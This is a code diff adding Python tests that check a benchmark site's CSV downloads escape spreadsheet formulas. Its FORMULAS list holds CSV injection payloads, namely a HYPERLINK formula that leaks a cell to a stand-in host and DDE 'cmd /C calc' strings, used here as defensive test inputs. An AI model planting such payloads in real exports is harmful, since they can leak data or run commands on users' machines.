@@ -537,3 +537,66 @@ def test_the_newest_run_and_the_stale_warning_come_from_run_ids_not_dates(
     seen = [SourceData(source, f, f.iloc[:0], f.iloc[:0]) for f in (frame, moved)]
     assert [s.newest_date() for s in seen] == [pd.Timestamp("2026-11-25T08:18:49Z")] * 2
     assert stale_notice(seen[:1], 7, now) == stale_notice(seen[1:], 7, now) != ""
+
+
+# --- downloads: no CSV cell a spreadsheet would run --------------------------------------------
+
+#: Text a spreadsheet reads as a formula (tab and carriage return are refused at the boundary).
+FORMULAS = [
+    '=HYPERLINK("http://example.invalid/?leak="&A2,"x")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+]
+
+
+def csv_cells(path: Path) -> Iterator[str]:
+    import csv
+
+    with path.open(newline="", encoding="utf-8") as f:
+        for row in csv.reader(f):
+            yield from row
+
+
+def is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+@pytest.mark.slow
+def test_no_csv_the_site_writes_holds_a_formula(results: Path, tmp_path: Path) -> None:
+    from bench.report.spreadsheet import FORMULA_SIGNS
+
+    fields = iter(range(10**6))
+
+    def change(where: tuple[Any, ...], value: str) -> str | None:
+        if field_name(where) in NAMES | FIXED:
+            return None
+        return FORMULAS[next(fields) % len(FORMULAS)]  # every prefix, in many fields
+
+    assert edit_all(results, change) > 100
+    assert validate_tree(results) == []  # legal text: the downloads must hold it, inert
+    docs = tmp_path / "docs"
+    docs.mkdir()
+    site = build.generate(docs, environ={"BENCH_RESULTS": str(results)}, cache=tmp_path / "c")
+    written = [Path(f) for t, f in site.files.items() if t.endswith(".csv")]
+    assert written  # the tidy table
+    for path in written:
+        cells = list(csv_cells(path))
+        risky = [c for c in cells if c.startswith(FORMULA_SIGNS) and not is_number(c)]
+        assert risky == [], (path, risky[:3])
+        if path.name == "tidy.csv":  # the payloads are there, as text
+            assert {f"'{formula}" for formula in FORMULAS} <= set(cells), path
+
+
+@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_formula_sign_starts_no_cell(sign: str) -> None:
+    from bench.report.spreadsheet import inert_cell, to_csv
+
+    assert inert_cell(f"{sign}1+1") == f"'{sign}1+1"
+    assert inert_cell("1+1") == "1+1" and inert_cell(-1.5) == -1.5
+    frame = pd.DataFrame({"text": [f"{sign}1+1", "plain"], "number": [-1.5, 2.0]})
+    assert to_csv(frame).startswith(f"text,number\n'{sign}1+1,-1.5\n")
